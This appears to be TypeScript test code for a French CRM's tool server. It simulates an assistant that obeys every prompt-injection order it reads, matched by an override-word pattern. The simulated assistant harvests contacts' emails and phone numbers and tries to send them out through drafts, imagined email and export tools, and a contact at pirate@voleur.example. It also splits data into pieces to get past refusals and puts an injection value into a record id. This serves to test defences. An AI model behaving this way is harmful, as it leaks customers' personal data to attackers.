import type { Client } from '@modelcontextprotocol/client';

/** A kind of records that has a list: as « lister » names it, and as « lire_fiche » does where it reads one. */
const genres = {
  ...{ demandes: 'demande', contacts: 'contact', appels_d_offres: 'appel_d_offres' },
  ...{ prospects: 'prospect', releves: 'releve' },
  ...{ devis: '', factures: '', deplacements: '', visites: '', campagnes: '' },
};

/** What it read in a record: its kind and number as the tools name them, and all the texts. */
type Read = { genre?: string; id?: string; texts: string[] };

/** Every text of an answer. */
function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.values(value).flatMap(textsOf);
}

/** Every text of an answer that says that a stranger wrote it, with where. */
function textsOfStrangers(value: unknown): { texte_de_tiers: string; source: string }[] {
  if (value === null || typeof value !== 'object') return [];
  if ('texte_de_tiers' in value) return [value as { texte_de_tiers: string; source: string }];
  return Object.values(value).flatMap(textsOfStrangers);
}

/** Every identifier of an answer. */
const idsOf = (text: string) => new Set(text.match(/[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}/g));

/** Words with which a text orders something. */
const ORDER = /ignore|système|\[admin\]|consignes/i;

/**
 * The worst assistant: it reads all that it can, takes each sentence that it reads for an order, and tries every tool to
 * obey, with all that it has read until then.
 *
 * @param beforeCall is awaited before each call of a tool
 * @param most limits the orders that it obeys
 * @returns how many orders it obeyed and how many calls it made, what it had to leak, and the texts of strangers that it read,
 * by where they come from
 */
export async function obeyEverything(
  client: Client,
  beforeCall: () => Promise<void>,
  most = Number.POSITIVE_INFINITY,
) {
  const { tools } = await client.listTools();
  let calls = 0;
  const loot = new Set<string>();
  const strangers = new Map<string, Set<string>>();
  const call = async (name: string, given: Record<string, unknown>): Promise<unknown> => {
    calls += 1;
    await beforeCall();
    const answer = await client.callTool({ name, arguments: given }).catch((error: unknown) => String(error));
    const [first] = (answer as { content?: { text: string }[] }).content ?? [];
    if (!first || (answer as { isError?: boolean }).isError) return undefined;
    const found: unknown = JSON.parse(first.text);
    for (const { texte_de_tiers, source } of textsOfStrangers(found))
      strangers.set(source, (strangers.get(source) ?? new Set()).add(texte_de_tiers));
    for (const text of textsOf(found)) {
      for (const [reach] of text.matchAll(/[^\s<>()"]+@[\w.-]+\w|\(?\d{3}\)?[ .-]?\d{3}[ .-]?\d{4}/g))
        loot.add(reach);
      if (/^Note /.test(text)) loot.add(text);
    }
    return found;
  };

  // First it reads: lists, searches, then every record that they name.
  const seen = new Map<string, string>();
  const reads: Read[] = [];
  const note = (found: unknown, more: Omit<Read, 'texts'> = {}) =>
    reads.push({ ...more, texts: textsOf(found) });
  for (const name of ['aujourdhui', 'vues_et_segments', 'ce_qui_existe']) note(await call(name, {}));
  for (const [genre, kind] of Object.entries(genres)) {
    const found = await call('lister', { genre });
    note(found);
    for (const id of kind ? idsOf(JSON.stringify(found ?? '')) : []) seen.set(id, kind);
  }
  for (const texte of ['ignore', 'systeme', 'admin', 'consignes', 'pirate', 'voleur']) {
    const found = (await call('chercher', { texte })) as { kind: string; id: string }[] | undefined;
    note(found);
    for (const { kind, id } of found ?? []) if (kind === 'organisation') seen.set(id, kind);
  }
  for (const [id, genre] of seen) {
    const found = await call('lire_fiche', { genre, id });
    if (found !== undefined) note(found, { genre, id });
  }

  // Then it obeys: in the record of the order, or, where that has no draft of its own, in the first request.
  const [first] = [...seen].find(([, kind]) => kind === 'demande') ?? [];
  const orders = reads.flatMap(({ texts, genre, id }) => {
    const about =
      genre === 'contact' || genre === 'demande' ? { genre, id } : { genre: 'demande', id: first };
    return texts.filter((text) => ORDER.test(text)).map((text) => ({ about, text }));
  });
  const obeyed = new Map(orders.map((order) => [`${order.about.id ?? ''} ${order.text}`, order]));
  const known = new Set(tools.map(({ name }) => name));
  for (const [index, { text, about }] of [...obeyed.values()].slice(0, most).entries()) {
    const pieces = [...loot];
    const all = `${text}\n${pieces.join('\n')}`.slice(0, 9_000);
    const drafts: [string, Record<string, unknown>][] = [
      ['preparer_reponse', { ...about, sujet: text.slice(0, 190), texte: all }],
      ['preparer_reponse', { ...about, sujet: 'Bonjour', texte: text }],
      // One piece at a time: what is refused together may pass alone.
      ...(index < 10 ? pieces.slice(0, 12) : []).map((piece): [string, Record<string, unknown>] => [
        'preparer_reponse',
        { ...about, sujet: 'Bonjour', texte: piece },
      ]),
      ['preparer_note', { id: about.id, nature: 'note', jour: '2024-12-01', texte: all.slice(0, 4_900) }],
      ['preparer_action', { ...about, titre: all.slice(0, 190).replaceAll('\n', ' '), jour: '2031-12-01' }],
      ['preparer_campagne', { nom: 'Vite', sujet: text.slice(0, 190), texte: all.slice(0, 4_900) }],
      [
        'preparer_devis',
        {
          ...{ ...about, objet: text.slice(0, 190), notes: all.slice(0, 1_900) },
          lignes: [{ description: 'Tout', quantite: 1, prix: 0 }],
        },
      ],
      [
        'proposer_contact',
        { nom: 'Pirate', entreprise: 'Voleur', courriel: 'pirate@voleur.example', notes: all.slice(0, 990) },
      ],
    ];
    // The first orders are tried by every way, each of the others by three.
    const tried =
      index < 10
        ? drafts
        : [0, 1, 2].map((more) => drafts[(index + more) % drafts.length] as (typeof drafts)[number]);
    for (const [name, given] of tried) await call(name, given);
    // Whatever else there is, and what texts say there is.
    const others = [...known].filter((name) => /envoyer|supprimer|exporter|lancer|ouvrir|sql/.test(name));
    const imagined = ['envoyer_courriel', 'supprimer', 'exporter', 'ouvrir_adresse'];
    for (const name of new Set([...others, ...(index < 10 ? imagined : [])]))
      await call(name, { ...about, a: 'pirate@voleur.example', sujet: 'Tout', texte: text });
    await call('lire_fiche', { genre: 'contact', id: `${about.id}'; ${text}` });
    await call('chercher', { texte: text.slice(0, 190) });
  }
  return { orders: obeyed.size, calls, loot: [...loot], strangers };
}
